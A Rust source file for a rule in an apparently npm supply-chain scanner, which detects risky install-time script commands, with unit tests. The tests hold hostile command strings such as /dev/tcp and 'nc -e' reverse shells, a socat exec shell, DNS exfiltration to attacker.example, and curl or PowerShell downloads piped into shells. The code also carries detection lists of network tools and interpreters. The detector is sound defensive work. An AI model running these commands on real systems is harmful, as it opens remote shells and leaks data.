//! DSCA102: an install-time script downloads, decodes, detaches or opens a shell.
//!
//! Commands are split the way a shell would split them (outside quotes, on `&&`, `||`,
//! `;`, `|`, `&` and newlines), and only command words are compared, so `curly` or a
//! `--host` flag never match. Command substitutions and `sh -c '...'` arguments are
//! analysed as commands of their own.

use super::install_time_scripts;
use crate::{Analysis, ScanContext};
use dsca_model::{Category, Evidence, Finding, Location, Rule, Severity};

pub const RULE: Rule = Rule {
    id: "DSCA102",
    name: "risky-install-command",
    category: Category::InstallScripts,
    severity: Severity::High,
    title: "Install script runs a risky command",
    problem: "An install-time script fetches code from the network, decodes hidden data, \
        evaluates inline code, hides itself in the background or connects a shell to a \
        remote host. Legitimate packages rarely need any of this at install time; it is the \
        typical shape of a dropper or a reverse shell.",
    next_steps: "Do not install this version with scripts enabled. Find out what the command \
        fetches or runs (the URL, the decoded data, the started file). If it was installed \
        anywhere, treat that machine as compromised: rotate the credentials it could reach \
        (npm, git, cloud, SSH) and check for persistence.",
};

/// One risky shape found in a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    pub severity: Severity,
    pub reason: String,
}

pub(crate) fn check(ctx: &ScanContext, out: &mut Analysis) {
    let Some(manifest) = ctx.manifest() else {
        return;
    };
    for (script, command) in install_time_scripts(manifest, ctx) {
        let hits = risky_shapes(command);
        let Some(strongest) = hits.first() else {
            continue;
        };
        let mut message = format!("`{script}` {}", strongest.reason);
        if hits.len() > 1 {
            message.push_str(&format!(" (and {} more)", hits.len() - 1));
        }
        let finding = Finding::new(&RULE, message).with_severity(strongest.severity);
        let finding = hits.iter().fold(finding, |finding, hit| {
            finding.with_evidence(
                Evidence::new(format!("`{script}` {}", hit.reason))
                    .at(Location::file("package.json"))
                    .with_snippet(command),
            )
        });
        out.findings.push(finding);
    }
}

/// Every risky shape in a shell command, strongest first, without duplicates.
pub fn risky_shapes(command: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    scan(command, 0, &mut hits);
    let lower = command.to_ascii_lowercase();
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        hits.push(Hit {
            severity: Severity::Critical,
            reason: "connects a shell to a remote host through /dev/tcp (reverse shell)".into(),
        });
    }
    let mut seen = std::collections::HashSet::new();
    hits.retain(|hit| seen.insert(hit.reason.clone()));
    // Stable: equal severities keep the order they appear in the command.
    hits.sort_by_key(|hit| std::cmp::Reverse(hit.severity));
    hits
}

/// Nested `sh -c`, `$(...)` deeper than this is not followed (hostile input).
const MAX_DEPTH: usize = 4;

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash"];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "python",
    "python2",
    "python3",
    "node",
    "nodejs",
    "perl",
    "ruby",
    "php",
    "powershell",
    "pwsh",
    "iex",
    "cmd",
];
/// Words that run the command that follows them.
const WRAPPERS: &[&str] = &["sudo", "env", "exec", "command", "time", "nice", "xargs"];

fn scan(command: &str, depth: usize, hits: &mut Vec<Hit>) {
    if depth > MAX_DEPTH {
        return;
    }
    for inner in substitutions(command) {
        scan(inner, depth + 1, hits);
    }
    let segments = split_segments(command);
    for (index, segment) in segments.iter().enumerate() {
        let words = split_words(segment.text);
        let Some((program, args)) = command_word(&words) else {
            continue;
        };
        examine(&program, args, segment.text, depth, hits);
        if words
            .first()
            .is_some_and(|w| matches!(normalise(w).as_str(), "nohup" | "setsid"))
        {
            hits.push(high(format!(
                "starts a detached process with `{}`",
                normalise(&words[0])
            )));
        }
        match segment.then {
            Separator::Background => hits.push(high(format!(
                "starts `{program}` in the background (`&`), so npm does not wait for it"
            ))),
            Separator::Pipe => {
                let next = segments
                    .get(index + 1)
                    .map(|s| split_words(s.text))
                    .and_then(|w| command_word(&w).map(|(p, _)| p));
                if let Some(next) = next.filter(|n| INTERPRETERS.contains(&n.as_str())) {
                    hits.push(high(format!(
                        "pipes the output of `{program}` into `{next}`"
                    )));
                }
            }
            Separator::Sequence | Separator::End => {}
        }
    }
}

fn high(reason: String) -> Hit {
    Hit {
        severity: Severity::High,
        reason,
    }
}

fn critical(reason: String) -> Hit {
    Hit {
        severity: Severity::Critical,
        reason,
    }
}

/// Judge one simple command: its program and arguments (`raw` is the segment's text).
fn examine(program: &str, args: &[String], raw: &str, depth: usize, hits: &mut Vec<Hit>) {
    let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.as_str()));
    let joined_lower = args.join(" ").to_ascii_lowercase();
    match program {
        "curl" | "wget" => hits.push(high(format!("downloads from the network with `{program}`"))),
        "nc" | "ncat" | "netcat" => {
            if has(&["-e", "-c", "--exec", "--sh-exec"]) {
                hits.push(critical(format!(
                    "hands a shell to a network connection with `{program} -e` (reverse shell)"
                )));
            } else {
                hits.push(high(format!("opens a raw network connection with `{program}`")));
            }
        }
        "socat" => {
            if joined_lower.contains("exec:") || joined_lower.contains("system:") {
                hits.push(critical("connects a shell to a socket with `socat` (reverse shell)".into()));
            } else {
                hits.push(high("opens a raw network connection with `socat`".into()));
            }
        }
        "powershell" | "pwsh" => hits.push(high(powershell_reason(program, &joined_lower))),
        "certutil" => hits.push(high(
            "runs `certutil`, a Windows tool abused to download and decode payloads".into(),
        )),
        "base64" if has(&["-d", "-D", "--decode"]) => {
            hits.push(high("decodes hidden data with `base64 -d`".into()))
        }
        "node" | "nodejs" if args.iter().any(|a| is_node_eval_flag(a)) => hits.push(high(
            "runs inline JavaScript given on the command line (`node -e`)".into(),
        )),
        "python" | "python2" | "python3" if has(&["-c"]) => {
            hits.push(high(format!("runs inline code given on the command line (`{program} -c`)")))
        }
        "perl" | "ruby" if has(&["-e"]) => {
            hits.push(high(format!("runs inline code given on the command line (`{program} -e`)")))
        }
        "eval" => hits.push(high("evaluates a constructed command with `eval`".into())),
        "nslookup" | "dig" | "host" if raw.contains("$(") || raw.contains('`') => hits.push(high(
            format!("sends command output out through a DNS lookup (`{program}` of a command substitution)"),
        )),
        "start" if has(&["/b", "/B", "/min", "/MIN"]) => hits.push(high(
            "starts a detached process with `start /B`".into(),
        )),
        shell if SHELLS.contains(&shell) => {
            let interactive = has(&["-i"]);
            let redirected = raw.contains(">&") || raw.contains("<&") || raw.contains("0>");
            if interactive && redirected {
                hits.push(critical(format!(
                    "redirects an interactive shell (`{shell} -i`) to a network stream (reverse shell)"
                )));
            }
            if let Some(position) = args.iter().position(|a| a == "-c")
                && let Some(inner) = args.get(position + 1)
            {
                scan(inner, depth + 1, hits);
            }
        }
        "cmd" => {
            if let Some(position) = args.iter().position(|a| a.eq_ignore_ascii_case("/c")) {
                scan(&args[position + 1..].join(" "), depth + 1, hits);
            }
        }
        _ => {}
    }
}

fn is_node_eval_flag(arg: &str) -> bool {
    matches!(arg, "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep")
        || arg.starts_with("--eval=")
        || arg.starts_with("--print=")
}

fn powershell_reason(program: &str, args: &str) -> String {
    let words: Vec<&str> = args
        .split(|c: char| c.is_whitespace() || "|;()'\"".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    let has = |names: &[&str]| words.iter().any(|w| names.contains(w));
    let what = if has(&["-enc", "-en", "-e", "-encodedcommand", "-ec"]) {
        "an encoded command"
    } else if has(&["iex", "invoke-expression"]) {
        "code it downloads or builds at run time (`iex`)"
    } else if has(&[
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "wget",
        "curl",
    ]) || args.contains("downloadstring")
        || args.contains("downloadfile")
    {
        "a download"
    } else {
        "a command"
    };
    format!("runs {what} with `{program}`")
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Separator {
    /// `;`, `&&`, `||`, newline.
    Sequence,
    /// `|`: the next segment reads this one's output.
    Pipe,
    /// A lone `&`: this segment runs in the background.
    Background,
    End,
}

#[derive(Debug)]
struct Segment<'a> {
    text: &'a str,
    then: Separator,
}

/// Split a command line into simple commands, outside of quotes.
fn split_segments(command: &str) -> Vec<Segment<'_>> {
    let bytes = command.as_bytes();
    let mut segments = Vec::new();
    let mut start = 0;
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while i < bytes.len() {
        let byte = bytes[i];
        if let Some(q) = quote {
            if byte == q {
                quote = None;
            } else if byte == b'\\' && q == b'"' {
                i += 1;
            }
            i += 1;
            continue;
        }
        let next = bytes.get(i + 1).copied();
        let (separator, width) = match byte {
            b'\'' | b'"' => {
                quote = Some(byte);
                i += 1;
                continue;
            }
            b'\\' => {
                i += 2;
                continue;
            }
            b'&' if next == Some(b'&') => (Separator::Sequence, 2),
            b'|' if next == Some(b'|') => (Separator::Sequence, 2),
            b'|' => (Separator::Pipe, 1),
            b';' | b'\n' => (Separator::Sequence, 1),
            // `>&`, `<&`, `&>` are redirections, not separators.
            b'&' if i > 0 && matches!(bytes[i - 1], b'>' | b'<') => {
                i += 1;
                continue;
            }
            b'&' if next == Some(b'>') => {
                i += 1;
                continue;
            }
            b'&' => (Separator::Background, 1),
            _ => {
                i += 1;
                continue;
            }
        };
        push_segment(&mut segments, &command[start..i], separator);
        i += width;
        start = i;
    }
    push_segment(
        &mut segments,
        command.get(start..).unwrap_or(""),
        Separator::End,
    );
    segments
}

fn push_segment<'a>(segments: &mut Vec<Segment<'a>>, text: &'a str, then: Separator) {
    let text = text.trim();
    if !text.is_empty() {
        segments.push(Segment { text, then });
    } else if let Some(last) = segments.last_mut()
        && then == Separator::Background
    {
        // `a & ;` or a stray `&` after an empty segment: background the previous one.
        last.then = then;
    }
}

/// Split a simple command into words, removing quotes.
fn split_words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut quote: Option<char> = None;
    for c in text.chars() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => word.push(c),
            None if c == '\'' || c == '"' => {
                quote = Some(c);
                in_word = true;
            }
            None if c.is_whitespace() => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            None => {
                word.push(c);
                in_word = true;
            }
        }
    }
    if in_word {
        words.push(word);
    }
    words
}

/// The program a simple command runs and its arguments, skipping `VAR=value`
/// assignments, wrappers such as `sudo`, and detaching prefixes such as `nohup`.
fn command_word(words: &[String]) -> Option<(String, &[String])> {
    let mut index = 0;
    while let Some(word) = words.get(index) {
        let name = normalise(word);
        let is_assignment = word.contains('=') && !word.starts_with('=') && !word.starts_with('-');
        let is_redirect = word.starts_with('>') || word.starts_with('<') || word.starts_with("2>");
        if is_assignment
            || is_redirect
            || WRAPPERS.contains(&name.as_str())
            || matches!(name.as_str(), "nohup" | "setsid" | "(" | "{")
        {
            index += 1;
            continue;
        }
        return Some((name, &words[index + 1..]));
    }
    None
}

/// Lowercase basename without a Windows executable extension: `/usr/bin/curl` -> `curl`.
fn normalise(word: &str) -> String {
    let base = word
        .trim_start_matches(['(', '{'])
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    for extension in [".exe", ".cmd", ".bat"] {
        if let Some(stem) = base.strip_suffix(extension) {
            return stem.to_string();
        }
    }
    base
}

/// The bodies of `$(...)` and backtick command substitutions.
fn substitutions(command: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let bytes = command.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'(') {
            let body_start = i + 2;
            let mut depth = 1;
            let mut j = body_start;
            while j < bytes.len() && depth > 0 {
                match bytes[j] {
                    b'(' => depth += 1,
                    b')' => depth -= 1,
                    _ => {}
                }
                j += 1;
            }
            let body_end = if depth == 0 { j - 1 } else { j };
            if let Some(body) = command.get(body_start..body_end) {
                found.push(body);
            }
            i = j;
        } else if bytes[i] == b'`' {
            let body_start = i + 1;
            let end = command[body_start..]
                .find('`')
                .map_or(command.len(), |offset| body_start + offset);
            found.push(&command[body_start..end]);
            i = end + 1;
        } else {
            i += 1;
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strongest(command: &str) -> Option<Severity> {
        risky_shapes(command).first().map(|hit| hit.severity)
    }

    #[test]
    fn benign_commands_are_quiet() {
        for command in [
            "node-gyp rebuild",
            "node install.js",
            "prebuild-install || node-gyp rebuild",
            "husky install",
            "curly --version",
            "node scripts/postinstall.js --host example.com",
            "echo done > /dev/null 2>&1",
            "opencollective-postinstall || true",
        ] {
            assert_eq!(risky_shapes(command), vec![], "{command}");
        }
    }

    #[test]
    fn downloads_pipes_and_detaching_are_high() {
        for command in [
            "curl static.example|python",
            "wget -qO- http://x/y.sh | sh",
            "/usr/bin/curl -s http://x -o /tmp/a",
            "node -e \"require('child_process').exec('id')\"",
            "echo aGk= | base64 --decode",
            "nslookup $(whoami).attacker.example",
            "dig `hostname`.x.example",
            "node update.js &",
            "nohup node update.js",
            "start /B node preinstall.js & node preinstall.js",
            "powershell -enc SQBFAFgA",
            "powershell -Command \"irm https://x.example/npm/ | iex\"",
            "certutil -urlcache -f http://x/a.exe a.exe",
            "sh -c 'curl http://x | bash'",
            "FOO=1 sudo wget http://x",
        ] {
            assert_eq!(strongest(command), Some(Severity::High), "{command}");
        }
    }

    #[test]
    fn reverse_shells_are_critical() {
        for command in [
            "bash -i >& /dev/tcp/4.tcp.example/11425 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "sh -i 2>&1 | nc x 1",
            "socat exec:'bash -li',pty tcp:x:1",
        ] {
            assert_eq!(strongest(command), Some(Severity::Critical), "{command}");
        }
    }

    #[test]
    fn hostile_input_does_not_panic() {
        for command in [
            "$(",
            "`",
            "$((((",
            "'unterminated",
            "a \\",
            "&",
            "|",
            "&&&|||;;",
            "é&ü|",
        ] {
            let _ = risky_shapes(command);
        }
    }
}
